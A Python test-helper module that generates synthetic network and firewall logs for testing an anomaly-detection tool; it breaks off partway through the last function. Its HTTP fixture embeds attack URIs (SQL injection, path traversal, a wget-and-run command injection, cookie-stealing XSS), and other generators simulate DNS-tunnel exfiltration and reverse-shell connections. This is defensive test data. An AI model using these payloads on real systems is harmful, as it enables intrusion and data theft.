"""Small flow logs built in the tests: Zeek conn rows in TSV and JSON, Suricata eve.json, attacks among them."""

from __future__ import annotations

import base64
import json
import time

import numpy as np
import pandas as pd

from .conftest import invoke

FIELDS = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service", "duration", "orig_bytes",
          "resp_bytes", "conn_state", "local_orig", "missed_bytes", "history", "orig_pkts", "resp_pkts", "tunnel_parents"]
TYPES = ["time", "string", "addr", "port", "addr", "port", "enum", "string", "interval", "count", "count", "string", "bool",
         "count", "string", "count", "count", "set[string]"]


def conn_rows(n: int, seed: int = 0, start: float = 1545403816.0, net: str = "192.168.1", step: float = 7.5) -> list[list]:
    """Normal traffic: NTP and DNS from one host, ephemeral source ports, small counts."""
    rng = np.random.default_rng(seed)
    rows = []
    for i in range(n):
        dns = rng.random() < 0.3
        pkts = int(rng.integers(1, 3))
        rows.append([
            f"{start + step * i:.6f}", f"C{rng.integers(1 << 40):x}", f"{net}.{int(rng.integers(2, 20))}",
            int(rng.integers(32768, 61000)) if dns else 123, f"{int(rng.integers(1, 223))}.{int(rng.integers(256))}.1.{int(rng.integers(256))}",
            53 if dns else 123, "udp", "dns" if dns else None, round(float(rng.exponential(0.01)), 6),
            int(rng.integers(30, 60)) if dns else 48, int(rng.integers(60, 200)) if dns else 48, "SF", None, 0,
            "Dd", pkts, pkts, None,
        ])
    return rows


def zeek_text(rows: list[list], close: bool = True) -> str:
    head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\tconn",
            "#open\t2019-01-10-12-00-00", "#fields\t" + "\t".join(FIELDS), "#types\t" + "\t".join(TYPES)]
    body = ["\t".join("-" if v is None else str(v) for v in r) for r in rows]
    return "\n".join(head + body + (["#close\t2019-01-10-13-00-00"] if close else [])) + "\n"


def zeek_json_text(rows: list[list]) -> str:
    out = []
    for r in rows:
        rec = {k: v for k, v in zip(FIELDS, r) if v is not None}
        rec["ts"] = float(rec["ts"])
        out.append(json.dumps(rec))
    return "\n".join(out) + "\n"


def eve_text(rows: list[list]) -> str:
    out = [json.dumps({"timestamp": "2019-01-10T20:06:29.067208+0000", "event_type": "stats", "stats": {"uptime": 60}})]
    for i, r in enumerate(rows):
        rec = dict(zip(FIELDS, r))
        out.append(json.dumps({
            "timestamp": "2019-01-10T20:06:30.753992+0000", "flow_id": 1000000000000 + i, "event_type": "flow",
            "src_ip": rec["id.orig_h"], "src_port": rec["id.orig_p"], "dest_ip": rec["id.resp_h"], "dest_port": rec["id.resp_p"],
            "proto": rec["proto"].upper(), **({"app_proto": rec["service"]} if rec["service"] else {}),
            "flow": {"pkts_toserver": rec["orig_pkts"], "pkts_toclient": rec["resp_pkts"], "bytes_toserver": rec["orig_bytes"],
                     "bytes_toclient": rec["resp_bytes"], "start": "2019-01-10T20:06:29.067208+0000",
                     "end": "2019-01-10T20:06:30.753992+0000", "age": 0, "state": "established", "reason": "timeout"},
        }))
        if i % 50 == 0:
            out.append(json.dumps({"timestamp": "2019-01-10T20:06:31+0000", "event_type": "dns", "dns": {"type": "query"}}))
    return "\n".join(out) + "\n"


def attack_rows(n: int) -> list[list]:
    """C&C over TCP to a port training never saw, and a telnet scan: what a bot does."""
    rows = conn_rows(n, seed=9)
    for i, r in enumerate(rows):
        r[6], r[7], r[11], r[14] = "tcp", None, "S0", "S"
        r[5] = 6667 if i % 2 else 23
        r[9], r[10], r[15], r[16] = None, None, 3, 0
        r[8] = None
    return rows


def nfdump_csv(n: int = 300) -> str:
    """`nfdump -o csv` as it prints: the flows, then a summary of another shape."""
    rng = np.random.default_rng(0)
    lines = ["ts,te,td,sa,da,sp,dp,pr,flg,ipkt,ibyt,opkt,obyt"]
    for i in range(n):
        pkts = int(rng.integers(1, 50))
        lines.append(f"2019-03-01 10:{i // 60 % 60:02d}:{i % 60:02d},2019-03-01 10:{i // 60 % 60:02d}:{i % 60:02d},"
                     f"{rng.random():.3f},10.0.0.{rng.integers(1, 20)},93.184.216.{rng.integers(1, 9)},"
                     f"{rng.integers(1024, 65535)},{rng.choice([80, 443, 53])},{rng.choice(['TCP', 'UDP'])},.AP.SF,"
                     f"{pkts},{pkts * int(rng.integers(40, 1500))},0,0")
    return "\n".join(lines + ["Summary", "flows,bytes,packets,avg_bps,avg_pps,avg_bpp", f"{n},123456,5000,8000,10,100"]) + "\n"


def assert_scored_as_home(runner, model, home, other, tmp_path, flagged: float = 0.05) -> dict:
    """Score the same flows as seen at the training's capture point (`home`) and at another (`other`): the
    scores are equal to the last digit and few rows are flagged. Returns both scored tables, and checks that
    score told of any lines it left out on stderr, not in the output."""
    scored = {}
    for key, path in (("home", home), ("other", other)):
        out = tmp_path / f"scored-{key}-{path.name}.csv"
        res = invoke(runner, "score", path, "--model", model, "--out", out)
        assert res.exit_code == 0, res.output
        scored[key] = pd.read_csv(out, low_memory=False)
        scored[key + "-stderr"] = res.stderr
    assert scored["other"]["anomaly_score"].tolist() == scored["home"]["anomaly_score"].tolist()
    assert scored["other"]["is_anomaly"].mean() <= flagged
    return scored


def assert_lines_told(runner, model, scored: dict, other, tmp_path, told: str) -> None:
    """score told on stderr of the lines a log reader left out of `other` (`told`), and with --strict it stops
    at the first malformed one."""
    assert told in " ".join(scored["other-stderr"].replace("│", " ").split())
    res = invoke(runner, "score", other, "--model", model, "--out", tmp_path / "strict.csv", "--strict")
    assert res.exit_code == 2 and "a line that is not a row" in res.stderr


VPC_HEADER = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"


def vpc_flow_log(n: int, account: str, enis: list[str], start: int, seed: int = 0) -> str:
    """AWS VPC Flow Logs as delivered to S3 (version 2, space-separated, '-' where a NODATA record has no flow):
    HTTPS and DNS from a subnet, SSH from outside."""
    rng = np.random.default_rng(seed)
    lines = [VPC_HEADER]
    for i in range(n):
        t = start + 30 * i
        eni = enis[i % len(enis)]
        if i % 40 == 7:
            lines.append(f"2 {account} {eni} - - - - - - - {t} {t + 60} - NODATA")
            continue
        kind = rng.random()
        src = f"172.31.16.{rng.integers(2, 250)}"
        dst, dport, proto = ((f"172.31.{rng.integers(0, 40)}.{rng.integers(2, 250)}", 443, 6) if kind < 0.6 else ("172.31.0.2", 53, 17))
        packets = int(rng.integers(1, 40))
        lines.append(f"2 {account} {eni} {src} {dst} {rng.integers(32768, 61000)} {dport} {proto} {packets} "
                     f"{packets * int(rng.integers(40, 1400))} {t} {t + 60} {'ACCEPT' if rng.random() < 0.95 else 'REJECT'} OK")
    return "\n".join(lines) + "\n"


def gcp_flow_log(n: int, project: str, day: int, seed: int = 0) -> str:
    """Google Cloud VPC Flow Logs exported from Cloud Logging (JSON lines): the flow, where in the project each
    end sits, an outside end's location, and the log entry's own name, id, resource and times."""
    rng = np.random.default_rng(seed)
    out = []
    for i in range(n):
        outside = rng.random() < 0.3
        entry = {
            "insertId": f"{int(rng.integers(1 << 40)):x}", "logName": f"projects/{project}/logs/compute.googleapis.com%2Fvpc_flows",
            "resource": {"type": "gce_subnetwork", "labels": {"project_id": project, "location": "us-central1-a", "subnetwork_name": f"{project}-subnet"}},
            "timestamp": f"2026-11-{day:02d}T10:{i // 60 % 60:02d}:{i % 60:02d}Z", "receiveTimestamp": f"2026-11-{day:02d}T10:{i // 60 % 60:02d}:{i % 60:02d}.5Z",
            "jsonPayload": {
                "connection": {"src_ip": f"10.128.0.{rng.integers(2, 200)}", "dest_ip": f"{'8.8' if outside else '10.128'}.0.{rng.integers(2, 200)}",
                               "src_port": int(rng.integers(32768, 61000)), "dest_port": int(rng.choice([443, 53, 80])), "protocol": int(rng.choice([6, 17]))},
                "bytes_sent": str(rng.integers(100, 90000)), "packets_sent": str(rng.integers(1, 60)), "reporter": str(rng.choice(["SRC", "DEST"])),
                "src_instance": {"project_id": project, "region": "us-central1", "vm_name": f"{project}-vm-{i % 3}", "zone": "us-central1-a"},
                "src_vpc": {"project_id": project, "vpc_name": f"{project}-vpc", "subnetwork_name": f"{project}-subnet"},
            },
        }
        if outside:
            entry["jsonPayload"]["dest_location"] = {"asn": 15169, "country": "usa", "city": "Mountain View"}
        out.append(json.dumps(entry))
    return "\n".join(out) + "\n"


def windows_firewall_log(day: str, pids: list[int], n: int, seed: int = 0) -> str:
    """pfirewall.log as Windows Firewall writes it: W3C directives, the names in '#Fields:', a blank line,
    then space-separated records ('-' where a field has no value)."""
    rng = np.random.default_rng(seed)
    lines = ["#Version: 1.5", "#Software: Microsoft Windows Firewall", "#Time Format: Local",
             "#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path pid", ""]
    for i in range(n):
        t = f"{i // 3600 % 24:02d}:{i // 60 % 60:02d}:{i % 60:02d}"
        if rng.random() < 0.7:
            lines.append(f"{day} {t} ALLOW TCP 10.0.0.5 52.1.{rng.integers(0, 255)}.{rng.integers(1, 250)} {rng.integers(49152, 65535)} 443 0 - 0 0 0 - - - SEND {rng.choice(pids)}")
        else:
            lines.append(f"{day} {t} DROP TCP 10.0.0.{rng.integers(2, 250)} 10.0.0.5 {rng.integers(1024, 65535)} 445 52 S {rng.integers(1 << 32)} 0 64240 - - - RECEIVE 4")
    return "\r\n".join(lines) + "\r\n"


def fortigate_log(n: int, day: int, device: str, vdom: str, seed: int = 0, syslog: bool = False) -> str:
    """FortiGate's traffic log as key=value lines (FortiOS 7): strings quoted, numbers not; with syslog=True
    each line carries the syslog priority, time and host that a collector writes before the pairs."""
    rng = np.random.default_rng(seed)
    out = []
    for i in range(n):
        port = int(rng.choice([443, 443, 80, 53, 123]))
        proto = 17 if port in (53, 123) else 6
        sport, pkts = int(rng.integers(1024, 65535)), int(rng.integers(1, 40))
        size = pkts * int(rng.integers(40, 1500))
        t = f"{10 + i // 3600 % 10:02d}:{i // 60 % 60:02d}:{i % 60:02d}"
        line = (f'date=2026-12-{day:02d} time={t} eventtime={1764584103000000000 + day * 86_400 * 10**9 + i * 10**9} tz="+0100" '
                f'logid="0000000013" type="traffic" subtype="forward" level="notice" vd="{vdom}" srcip=10.0.1.{rng.integers(2, 60)} '
                f'srcport={sport} srcintf="{device}-port2" srcintfrole="lan" dstip=93.184.{rng.integers(1, 250)}.{rng.integers(1, 250)} '
                f'dstport={port} dstintf="{device}-wan1" dstintfrole="wan" srccountry="Reserved" dstcountry="{rng.choice(["Germany", "United States"])}" '
                f'sessionid={rng.integers(1, 2**31)} proto={proto} action="{"close" if proto == 6 else "accept"}" policyid=1 '
                f'poluuid="c2d0ec2a-{device}" policyname="LAN to WAN" service="{ {443: "HTTPS", 80: "HTTP", 53: "DNS", 123: "NTP"}[port]}" '
                f'trandisp="snat" transip=203.0.113.{5 if device.endswith("A") else 77} transport={sport} duration={rng.integers(0, 120)} '
                f'sentbyte={size} rcvdbyte={size * 3} sentpkt={pkts} rcvdpkt={pkts * 2} devname="{device}" devid="FG100F{device[-1]}TK2100{day}"')
        out.append(f"<189>Dec {day:2d} {t} {device.lower()} {line}" if syslog else line)
    return "\n".join(out) + "\n"


def panos_log(n: int, day: int, device: str, seed: int = 0, syslog: bool = True, others: bool = True) -> str:
    """A Palo Alto firewall's traffic logs as its syslog sends them (PAN-OS 10: CSV lines without a header,
    after a collector's syslog header when syslog=True), with a SYSTEM log now and then among them."""
    rng = np.random.default_rng(seed)
    serial = f"0132010{day:02d}{device[-1]}"
    out = []
    for i in range(n):
        port = int(rng.choice([443, 443, 80, 53, 123]))
        proto, app = ("udp" if port in (53, 123) else "tcp"), {443: "ssl", 80: "web-browsing", 53: "dns", 123: "ntp"}[port]
        pkts = int(rng.integers(1, 40))
        sent = pkts * int(rng.integers(40, 1500))
        t = f"2026/12/{day:02d} {10 + i // 3600 % 10:02d}:{i // 60 % 60:02d}:{i % 60:02d}"
        fields = ["1", t, serial, "TRAFFIC", "end", "2561", t, f"10.0.1.{rng.integers(2, 60)}", f"93.184.{rng.integers(1, 250)}.7",
                  f"203.0.113.{day}", "0.0.0.0", "LAN to WAN", "", "", app, "vsys1", "trust", "untrust", f"ethernet1/{day}", "ethernet1/1",
                  f"fwd-{device}", t, str(rng.integers(1, 2**31)), "1", str(rng.integers(1024, 65535)), str(port),
                  str(rng.integers(1024, 65535)), "0", "0x400053", proto, "allow", str(sent * 4), str(sent), str(sent * 3), str(pkts * 3),
                  t, str(rng.integers(0, 120)), '"computer-and-internet-info,low-risk"', "0", str(rng.integers(1, 2**40)),
                  "0x8000000000000000", "10.0.0.0-10.255.255.255", str(rng.choice(["Germany", "United States"])), "0", str(pkts),
                  str(pkts * 2), "tcp-fin", str(day), "0", "0", "0", "", device, "from-policy", "", "", "0", "", "0", "1970/01/01 00:00:00",
                  "0", "0", "0", "0", "0", f"4d2e7f0a-{device}", "0", str(day), "0", "", "", "", "", ""]
        head = f"<14>Dec {day:2d} {t[11:]} {device} " if syslog else ""
        out.append(head + ",".join(fields))
        if others and i % 50 == 7:
            out.append(f"{head}1,{t},{serial},SYSTEM,general,2561,{t},,general,,0,0,general,informational,\"User admin logged in\",1,0x0,0,0,0,0,,{device}")
    return "\n".join(out) + "\n"


def fit_log(runner, train, tmp_path, epochs: int | None = None) -> tuple:
    """A model of a training log (its own default epochs, or `epochs`), and the roles fit gave its columns."""
    model = tmp_path / "m"
    res = invoke(runner, "fit", train, "--model", model, *(["--epochs", str(epochs)] if epochs is not None else []), "--json")
    assert res.exit_code == 0, res.output
    return model, {c["name"]: c["role"] for c in json.loads(res.stdout)["columns"]}


DNS_FIELDS = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "trans_id", "rtt", "query", "qclass",
              "qtype", "qtype_name", "rcode", "rcode_name", "answers", "TTLs"]
DNS_TYPES = ["time", "string", "addr", "port", "addr", "port", "enum", "count", "interval", "string", "count", "count", "string",
             "count", "string", "vector[string]", "vector[interval]"]
_SITES = ["google", "github", "microsoft", "slack", "zoom", "office", "amazon", "wikipedia", "reddit", "python", "ubuntu", "apple"]
_WORDS = ["news", "shop", "blog", "docs", "status", "cdn", "static", "img", "video", "data", "cloud", "store", "app", "portal"]


def dns_log(n: int, seed: int = 0, tunnel: float = 0.0, nxdomain: float = 0.0) -> tuple[str, np.ndarray]:
    """A Zeek dns.log of an office's queries (popular sites, CDN names, reverse lookups, its own hosts, rarer
    sites of two words) and whether each row is a tunnel's: a `tunnel` share of the queries carry base32 data
    in their labels to one domain, asked for as A and AAAA records as the office's are, answered as theirs are.
    A `nxdomain` share of the office's queries get no answer (NXDOMAIN), a rarer event of its own."""
    rng = np.random.default_rng(seed)
    rows, is_tunnel = [], np.zeros(n, dtype=bool)
    for i in range(n):
        r = rng.random()
        if rng.random() < tunnel:
            is_tunnel[i] = True
            data = base64.b32encode(rng.bytes(int(rng.integers(20, 35)))).decode().rstrip("=").lower()
            query = f"{data[:50]}.{data[50:] or 'a'}.t.example-exfil.net"
        elif r < 0.55:
            query = str(rng.choice(["www.", "", "api.", "login.", "mail."])) + str(rng.choice(_SITES)) + ".com"
        elif r < 0.75:
            query = f"e{rng.integers(1000, 9999)}.{rng.choice(['a', 'b', 'dscb'])}.{rng.choice(['akamaiedge.net', 'cloudfront.net'])}"
        elif r < 0.85:
            query = f"{rng.integers(1, 255)}.{rng.integers(1, 255)}.168.192.in-addr.arpa"
        elif r < 0.95:
            query = f"host{rng.integers(1, 80)}.corp.example.com"
        else:
            query = f"{rng.choice(_WORDS)}{rng.choice(_WORDS)}.{rng.choice(['com', 'net', 'org', 'io'])}"
        qtype = 12 if query.endswith(".arpa") else int(rng.choice([1, 28], p=[0.7, 0.3]))
        nx = nxdomain > 0 and not is_tunnel[i] and rng.random() < nxdomain
        rows.append([f"{1700000000 + 0.5 * i:.6f}", f"C{rng.integers(1 << 40):x}", f"10.0.0.{rng.integers(2, 200)}",
                     int(rng.integers(32768, 61000)), "10.0.0.1", 53, "udp", int(rng.integers(65536)), f"{rng.exponential(0.02):.6f}",
                     query, 1, qtype, {1: "A", 28: "AAAA", 12: "PTR"}[qtype], 3 if nx else 0, "NXDOMAIN" if nx else "NOERROR",
                     "(empty)" if nx else "93.184.216.34", "(empty)" if nx else "300.000000"])
    return zeek_log_text("dns", DNS_FIELDS, DNS_TYPES, rows), is_tunnel


def zeek_log_text(path: str, fields: list[str], types: list[str], rows: list[list]) -> str:
    """A Zeek TSV log of another kind than conn (its #path), without #open and #close."""
    head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", f"#path\t{path}",
            "#fields\t" + "\t".join(fields), "#types\t" + "\t".join(types)]
    return "\n".join(head + ["\t".join(map(str, r)) for r in rows]) + "\n"


def eve_dns_text(dns_log_text: str, flows: bool = True, version: int = 2) -> str:
    """The queries of a `dns_log` as Suricata's eve.json writes them: a dns event for each query and one for
    its answer (nested `dns` fields, a random flow_id), a flow event for every third query, and a stats event.
    version=2: Suricata 7's (`dns.rrname` of a query and an answer, answers grouped by type); version=3:
    Suricata 8's default (a request and a response, each naming its questions in a `dns.queries` list of
    records, the response its `dns.answers` in another, sent from the server's address)."""
    out = [json.dumps({"timestamp": "2023-11-14T22:00:00.000000+0000", "event_type": "stats", "stats": {"uptime": 60}})]
    rows = [line.split("\t") for line in dns_log_text.splitlines() if not line.startswith("#")]
    for i, r in enumerate(rows):
        base = {"timestamp": f"2023-11-14T22:{i // 60 % 60:02d}:{i % 60:02d}.000000+0000", "flow_id": 1_000_003 * (i + 7) % (1 << 50),
                "event_type": "dns", "src_ip": r[2], "src_port": int(r[3]), "dest_ip": r[4], "dest_port": 53, "proto": "UDP"}
        if version == 3:
            queries = [{"rrname": r[9], "rrtype": r[12]}]
            answers = [] if r[15] == "(empty)" else [{"rrname": r[9], "rrtype": r[12], "ttl": 300, "rdata": a} for a in r[15].split(",")]
            out.append(json.dumps({**base, "dns": {"version": 3, "type": "request", "tx_id": 0, "id": int(r[7]), "flags": "100",
                                                   "rd": True, "opcode": 0, "rcode": "NOERROR", "queries": queries}}))
            server = {**base, "src_ip": r[4], "src_port": 53, "dest_ip": r[2], "dest_port": int(r[3])}
            out.append(json.dumps({**server, "dns": {"version": 3, "type": "response", "tx_id": 1, "id": int(r[7]), "flags": "8180",
                                                     "qr": True, "rd": True, "ra": True, "opcode": 0, "rcode": r[14], "queries": queries,
                                                     **({"answers": answers} if answers else {})}}))
        else:
            out.append(json.dumps({**base, "dns": {"type": "query", "id": int(r[7]), "rrname": r[9], "rrtype": r[12], "tx_id": 0}}))
            out.append(json.dumps({**base, "dns": {"version": 2, "type": "answer", "id": int(r[7]), "flags": "8180", "rrname": r[9],
                                                   "rrtype": r[12], "rcode": r[14], "grouped": {r[12]: [r[15]]}}}))
        if flows and i % 3 == 0:
            out.append(json.dumps({**base, "event_type": "flow", "app_proto": "dns", "flow": {
                "pkts_toserver": 1, "pkts_toclient": 1, "bytes_toserver": 60 + len(r[9]), "bytes_toclient": 76 + len(r[9]),
                "start": base["timestamp"], "end": base["timestamp"], "age": 0, "state": "established", "reason": "timeout"}}))
    return "\n".join(out) + "\n"


HTTP_FIELDS = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "method", "host", "uri", "status_code", "response_body_len"]
HTTP_TYPES = ["time", "string", "addr", "port", "addr", "port", "string", "string", "string", "count", "count"]
_ATTACKS = ["/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "/../../../../../../etc/passwd",
            "/cgi-bin/status;wget%20http://203.0.113.9/x.sh%20-O-|sh", "/index.php?page=php://filter/convert.base64-encode/resource=config",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"]


def http_log(n: int, seed: int = 0, attacks: float = 0.0) -> tuple[str, np.ndarray]:
    """A Zeek http.log of a web shop's requests (pages, products, searches, static files with hashed names, an
    API) and whether each is an attack's: an `attacks` share are injections and traversals (_ATTACKS, each
    with a request id of its own), answered as the shop's pages are."""
    rng = np.random.default_rng(seed)
    words = ["shoes", "shirt", "coat", "bag", "hat", "socks", "belt", "watch"]
    rows, attack = [], np.zeros(n, dtype=bool)
    for i in range(n):
        r = rng.random()
        if rng.random() < attacks:
            attack[i] = True
            uri = str(rng.choice(_ATTACKS))
        elif r < 0.3:
            uri = f"/products/{rng.integers(1, 5000)}"
        elif r < 0.5:
            uri = f"/static/{rng.choice(['js', 'css'])}/app.{rng.integers(1 << 32):08x}.{rng.choice(['js', 'css'])}"
        elif r < 0.65:
            uri = f"/search?q={rng.choice(words)}&page={rng.integers(1, 9)}"
        elif r < 0.8:
            uri = f"/api/v1/users/{rng.integers(1, 900)}?fields=name,email"
        elif r < 0.9:
            uri = f"/images/{rng.choice(words)}-{rng.integers(1, 40)}.png"
        else:
            uri = str(rng.choice(["/", "/cart", "/checkout", "/login", "/account/orders"]))
        rows.append([f"{1.7e9 + i:.6f}", f"C{rng.integers(1 << 40):x}", f"198.51.100.{rng.integers(2, 250)}", int(rng.integers(32768, 61000)),
                     "10.0.0.80", 443, str(rng.choice(["GET", "GET", "GET", "POST"])), "shop.example.com", uri, 200,
                     int(rng.integers(200, 30000))])
    return zeek_log_text("http", HTTP_FIELDS, HTTP_TYPES, rows), attack


def netfilter_log(n: int, seed: int = 0, attacks: float = 0.0, host: str = "web01", iface: str = "eth0",
                  mac: str = "52:54:00:12:34:56:52:54:00:65:43:21:08:00", others: bool = False) -> tuple[str, np.ndarray]:
    """A server's kern.log of the packets UFW blocked and logged: the internet's background of SYNs to common
    ports (some with TCP options logged), UDP to NetBIOS and SSDP, pings, ICMP port-unreachable errors that
    quote the packet they answer; and whether each line is an attack's: an `attacks` share are stealth scans
    (null, FIN and Xmas flags) and the server's own packets out to a remote shell's port. others=True puts
    the kernel's other messages among them (a USB device, a hung task)."""
    rng = np.random.default_rng(seed)
    lines, attack = [], np.zeros(n, dtype=bool)
    for i in range(n):
        t = f"Dec  {5 + seed} {10 + i // 3600 % 10:02d}:{i // 60 % 60:02d}:{i % 60:02d}"
        src = f"{rng.integers(1, 223)}.{rng.integers(0, 255)}.{rng.integers(0, 255)}.{rng.integers(1, 254)}"
        ip = f"LEN={{}} TOS=0x00 PREC=0x00 TTL={rng.integers(30, 250)} ID={rng.integers(0, 65535)}{' DF' if rng.random() < 0.5 else ''}"
        way = f"IN={iface} OUT= MAC={mac} SRC={src} DST=203.0.113.5"
        r = rng.random()
        if rng.random() < attacks:
            attack[i] = True
            if rng.random() < 0.7:
                flags = str(rng.choice(["", "FIN", "URG PSH FIN"]))
                body = f"{way} {ip.format(40)} PROTO=TCP SPT={rng.integers(40000, 65535)} DPT={rng.integers(1, 1024)} WINDOW=1024 RES=0x00 {flags} URGP=0"
            else:
                body = (f"IN= OUT={iface} SRC=203.0.113.5 DST={src} {ip.format(60)} PROTO=TCP SPT={rng.integers(32768, 61000)} DPT=4444 "
                        f"WINDOW=64240 RES=0x00 SYN URGP=0")
        elif r < 0.7:
            options = " OPT (020405B40402080A)" if rng.random() < 0.2 else ""
            body = (f"{way} {ip.format(int(rng.choice([40, 44, 60])))} PROTO=TCP SPT={rng.integers(1024, 65535)} "
                    f"DPT={rng.choice([22, 23, 80, 443, 445, 3389, 8080, 5900])} WINDOW={rng.choice([1024, 29200, 64240, 65535])} "
                    f"RES=0x00 SYN URGP=0{options}")
        elif r < 0.85:
            size = int(rng.integers(30, 300))
            body = f"{way} {ip.format(size + 20)} PROTO=UDP SPT={rng.integers(1024, 65535)} DPT={rng.choice([137, 138, 1900, 5353])} LEN={size}"
        elif r < 0.95:
            body = f"{way} {ip.format(84)} PROTO=ICMP TYPE=8 CODE=0 ID={rng.integers(1, 65535)} SEQ={rng.integers(1, 100)}"
        else:
            quoted = f"[SRC=203.0.113.5 DST={src} LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=7 PROTO=UDP SPT=53 DPT={rng.integers(1024, 65535)} LEN=40 ]"
            body = f"{way} {ip.format(88)} PROTO=ICMP TYPE=3 CODE=3 {quoted}"
        lines.append(f"{t} {host} kernel: [{1000 + i * 0.731:.6f}] [UFW BLOCK] {body}")
        if others and i % 100 == 50:
            lines.append(f"{t} {host} kernel: [{1000 + i * 0.731:.6f}] usb 1-1: new high-speed USB device number {i // 100} using xhci_hcd")
    return "\n".join(lines) + "\n", attack


def filterlog_log(n: int, seed: int = 0, attacks: float = 0.0, host: str = "pfsense", wan: str = "igb0", lan: str = "igb1") -> tuple[str, np.ndarray]:
    """A pfSense firewall's filter log as its syslog sends it: the default deny rule's blocks of the internet's
    SYNs, UDP and pings on the WAN, a pass rule's logged connections from the LAN out (TCP to the web, DNS),
    IPv6 neighbour solicitations, CARP advertisements and the DHCP server's messages among them; and whether
    each line is an attack's: an `attacks` share are stealth scans (null, FIN and Xmas flags) and LAN hosts'
    connections out to a remote shell's port."""
    rng = np.random.default_rng(seed)
    lines, attack = [], np.zeros(n, dtype=bool)
    for i in range(n):
        head = f"<134>Dec  {5 + seed} {10 + i // 3600 % 10:02d}:{i // 60 % 60:02d}:{i % 60:02d} {host} filterlog[{64000 + seed}]: "
        outside = f"198.51.{rng.integers(0, 255)}.{rng.integers(1, 254)}"
        inside = f"10.0.0.{rng.integers(2, 200)}"
        ip4 = f"4,0x0,,{{ttl}},{rng.integers(1, 65535)},0,{{flags}}"
        block = f"5,,,1000000103,{wan},match,block,in,"
        passed = f"9,,,1000000110,{lan},match,pass,in,"
        r = rng.random()
        if rng.random() < attacks:
            attack[i] = True
            if rng.random() < 0.7:
                flags = str(rng.choice(["", "F", "FPU"]))
                data = (f"{block}{ip4.format(ttl=rng.integers(30, 250), flags='none')},6,tcp,40,{outside},203.0.113.5,"
                        f"{rng.integers(40000, 65535)},{rng.integers(1, 1024)},0,{flags},{rng.integers(1 << 32)},,1024,,")
            else:
                data = (f"{passed}{ip4.format(ttl=64, flags='DF')},6,tcp,60,{inside},{outside},{rng.integers(32768, 61000)},4444,0,S,"
                        f"{rng.integers(1 << 32)},,64240,,mss;sackOK;TS;nop;wscale")
        elif r < 0.5:
            data = (f"{block}{ip4.format(ttl=rng.integers(30, 250), flags=rng.choice(['none', 'DF']))},6,tcp,{rng.choice([40, 44, 60])},"
                    f"{outside},203.0.113.5,{rng.integers(1024, 65535)},{rng.choice([22, 23, 445, 3389, 8080])},0,S,{rng.integers(1 << 32)},,"
                    f"{rng.choice([1024, 29200, 65535])},,{rng.choice(['', 'mss'])}")
        elif r < 0.75:
            data = (f"{passed}{ip4.format(ttl=64, flags='DF')},6,tcp,60,{inside},{outside},{rng.integers(32768, 61000)},"
                    f"{rng.choice([443, 443, 80])},0,S,{rng.integers(1 << 32)},,64240,,mss;sackOK;TS;nop;wscale")
        elif r < 0.85:
            size = int(rng.integers(20, 60))
            data = f"{passed}{ip4.format(ttl=64, flags='none')},17,udp,{size + 28},{inside},9.9.9.9,{rng.integers(32768, 61000)},53,{size + 8}"
        elif r < 0.9:
            size = int(rng.integers(30, 300))
            data = (f"{block}{ip4.format(ttl=rng.integers(30, 250), flags='none')},17,udp,{size + 28},{outside},203.0.113.5,"
                    f"{rng.integers(1024, 65535)},{rng.choice([137, 1900, 5060])},{size + 8}")
        elif r < 0.95:
            data = f"{block}{ip4.format(ttl=rng.integers(30, 250), flags='none')},1,icmp,84,{outside},203.0.113.5,request,{rng.integers(1, 65535)},{rng.integers(1, 99)}"
        elif r < 0.98:
            data = f"{block}6,0x00,0x00000,255,ipv6-icmp,58,32,fe80::{rng.integers(1, 999):x},ff02::1:ff00:1,neighbor solicitation"
        else:
            data = f"9,,,1000000110,{lan},match,pass,out,4,0x0,,255,0,0,none,112,carp,56,10.0.0.2,224.0.0.18,advertise,255,1,2,0,1"
        lines.append(head + data)
        if i % 100 == 50:
            lines.append(f"<190>Dec  {5 + seed} 10:00:00 {host} dhcpd[{300 + seed}]: DHCPACK on {inside} to 00:11:22:33:44:55 via {lan}")
    return "\n".join(lines) + "\n", attack


_AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
           "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148")


def access_log_text(http_log_text: str, squid: bool = False) -> str:
    """The requests of an `http_log` as the web server writes them in the Combined Log Format (nginx's and
    Apache's default), or with squid=True as Squid's native access log writes them, proxied."""
    out = []
    for i, r in enumerate(line.split("\t") for line in http_log_text.splitlines() if not line.startswith("#")):
        ts, client, method, host, uri, status, size = float(r[0]), r[2], r[6], r[7], r[8], r[9], r[10]
        if squid:
            out.append(f"{ts:.3f} {37 + i % 400:6d} {client} TCP_MISS/{status} {size} {method} https://{host}{uri} - "
                       f"HIER_DIRECT/10.0.0.80 text/html")
        else:
            when = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(ts))
            out.append(f'{client} - - [{when}] "{method} {uri} HTTP/1.1" {status} {size} "-" "{_AGENTS[i % 2]}"')
    return "\n".join(out) + "\n"


def dns_query_log_text(dns_log_text: str, server: str = "bind") -> str:
    """The queries of a `dns_log` as a DNS server's query log writes them: BIND's (server="bind"), dnsmasq's
    (with its forwarded and reply lines for each query) or Unbound's."""
    out = []
    for i, r in enumerate(line.split("\t") for line in dns_log_text.splitlines() if not line.startswith("#")):
        ts, client, port, query, qtype = float(r[0]), r[2], r[3], r[9], r[12]
        if server == "bind":
            when = time.strftime("%d-%b-%Y %H:%M:%S", time.gmtime(ts))
            out.append(f"{when}.{i % 1000:03d} queries: info: client @0x7f8a1c0b{i % 4096:04x} {client}#{port} ({query}): "
                       f"query: {query} IN {qtype} +E(0)K (10.0.0.1)")
        elif server == "dnsmasq":
